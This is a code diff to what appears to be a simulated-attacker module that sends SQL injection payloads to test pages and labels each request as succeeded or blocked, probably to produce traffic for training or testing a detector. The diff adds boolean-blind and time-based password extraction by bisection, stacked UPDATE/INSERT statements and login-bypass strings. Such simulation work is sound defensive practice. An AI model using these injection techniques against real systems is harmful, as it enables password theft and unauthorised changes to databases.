@@ -93,6 +93,37 @@ def error(attacker, hole):
                         check=lambda reply: hole.held(reply), ran=hole.ran)
 
 
+def halved(is_above):
+    """The code of a character, by asking whether it is above the middle of what is left."""
+    low, high = 32, 127
+    while low < high:
+        middle = (low + high) // 2
+        if is_above(middle):
+            low = middle + 1
+        else:
+            high = middle
+    return low
+
+
+def fooled(attacker, hole):
+    """A tool that takes the length of a page for an answer, whether there is one or not: where pages have noise, it
+    reads rubbish."""
+    start = "3" if hole.page.numeric else {"search": "boots'", "list": "shoes'"}.get(hole.kind, "admin'")
+    made = []
+
+    def asked(condition):
+        reply, label = attacker.attack("sqli-boolean", hole.name, hole.target(f" AND {condition}", start), ran=hole.ran)
+        made.append(label)
+        return len(reply.body)
+    usual = (asked("1=1") + asked("1=2")) / 2
+    found = "".join(chr(halved(lambda middle, at=at: asked(
+        f"ascii(substr((SELECT password FROM users LIMIT 1),{at},1))>{middle}") > usual)) for at in range(1, 5))
+    if hole.marks[0].startswith(found):
+        for label in made:
+            if label.label != BLOCKED:
+                label.label = SUCCEEDED
+
+
 def boolean(attacker, hole):
     """Characters of a password by bisection; true and false answers must differ in words or status."""
     start = "3" if hole.page.numeric else {"search": "boots'", "list": "shoes'"}.get(hole.kind, "admin'")
@@ -105,22 +136,22 @@ def boolean(attacker, hole):
         return reply
 
     def token(reply):
-        return reply.status, reply.body.count("<b>"), "nothing" in reply.body
+        return reply.status, reply.body.count(hole.page.row_mark), "nothing" in reply.body
+    how = attacker.rng.choice(("halving", "halving", "between", "equal"))
     yes, no = token(asked("1=1")), token(asked("1=2"))
     if yes == no or asked("2=2").blocked:
         for n in range(attacker.rng.randint(5, 30)):
             asked(f"ascii(substr(({secret}),1,1))>{32 + n * 3}")
         return
     found = ""
-    for at in range(1, attacker.rng.randint(4, 9)):
-        low, high = 32, 127
-        while low < high:
-            middle = (low + high) // 2
-            if token(asked(f"ascii(substr(({secret}),{at},1))>{middle}")) == yes:
-                low = middle + 1
-            else:
-                high = middle
-        found += chr(low)
+    for at in range(1, attacker.rng.randint(4, 9) if how != "equal" else 4):
+        character = f"ascii(substr(({secret}),{at},1))"
+        if how == "equal":
+            candidates = "pa0123456789bcdef"
+            found += next((c for c in candidates if token(asked(f"{character}={ord(c)}")) == yes), "?")
+            continue
+        found += chr(halved(lambda middle, text=character: token(asked(
+            f"{text}>{middle}" if how == "halving" else f"{text} NOT BETWEEN 0 AND {middle}")) == yes))
     if hole.marks[0].startswith(found):
         for label in made:
             if label.label != BLOCKED:
@@ -147,16 +178,19 @@ def timed(attacker, hole):
             asked(call.format(rng.choice((1, 2, 3, 5))))
         return
     secret = "SELECT password FROM users LIMIT 1"
-    for at in range(1, rng.randint(2, 3)):
-        for middle in rng.sample(range(40, 120, 3), rng.randint(5, 9)):
-            wait = call.format(1)
-            asked(f"CASE WHEN ascii(substr(({secret}),{at},1))>{middle} THEN {wait} ELSE 0 END")
+
+    def is_above(text, middle):
+        wait = call.format(1)
+        return bool(asked(f"CASE WHEN ascii(substr(({text}),{at},1))>{middle} THEN {wait} ELSE 0 END").truth.get("slept"))
+    for at in range(1, rng.randint(2, 5)):
+        halved(lambda middle: is_above(secret, middle))
     for label in labels:
         if label.label != BLOCKED:  # those that did not sleep gave information as well
             label.label = SUCCEEDED
 
 
 def stacked(attacker, hole):
+    """Where a page's library takes one statement at a time, these are errors."""
     for n in range(attacker.rng.randint(2, 8)):
         statement = attacker.rng.choice((
             f"; UPDATE items SET price='{n}.00' WHERE id={10 + n}", f"; INSERT INTO items(title) VALUES('x{n}')",
@@ -170,10 +204,14 @@ def bypass(attacker, hole):
     in_form = attacker.rng.random() < 0.4
     texts = ("admin' -- -", "' OR 1=1 -- -", "admin' OR '1'='1' -- -", "x' OR 'a'='a' LIMIT 1 -- -",
              "' UNION SELECT 1,'admin' -- -", "nobody' -- -")
+    follows = attacker.rng.random() < 0.5
     for text in attacker.rng.sample(texts, attacker.rng.randint(2, 6)):
         how = {"check": lambda reply: "session=" in reply.cookie, "ran": hole.ran}
         if in_form:
-            attacker.attack("sqli-bypass", hole.name, hole.path, method="POST", form={"user": text, "pass": "x"}, **how)
+            reply, _ = attacker.attack("sqli-bypass", hole.name, hole.path, method="POST",
+                                       form={"user": text, "pass": "x"}, **how)
         else:
             quoted = urllib.parse.quote(text, safe=QUERY_SAFE)
-            attacker.attack("sqli-bypass", hole.name, f"{hole.path}?user={quoted}&pass=x", **how)
+            reply, _ = attacker.attack("sqli-bypass", hole.name, f"{hole.path}?user={quoted}&pass=x", **how)
+        if follows and reply.status == 302:
+            attacker.ask("/account" if "session=" in reply.cookie else hole.path)
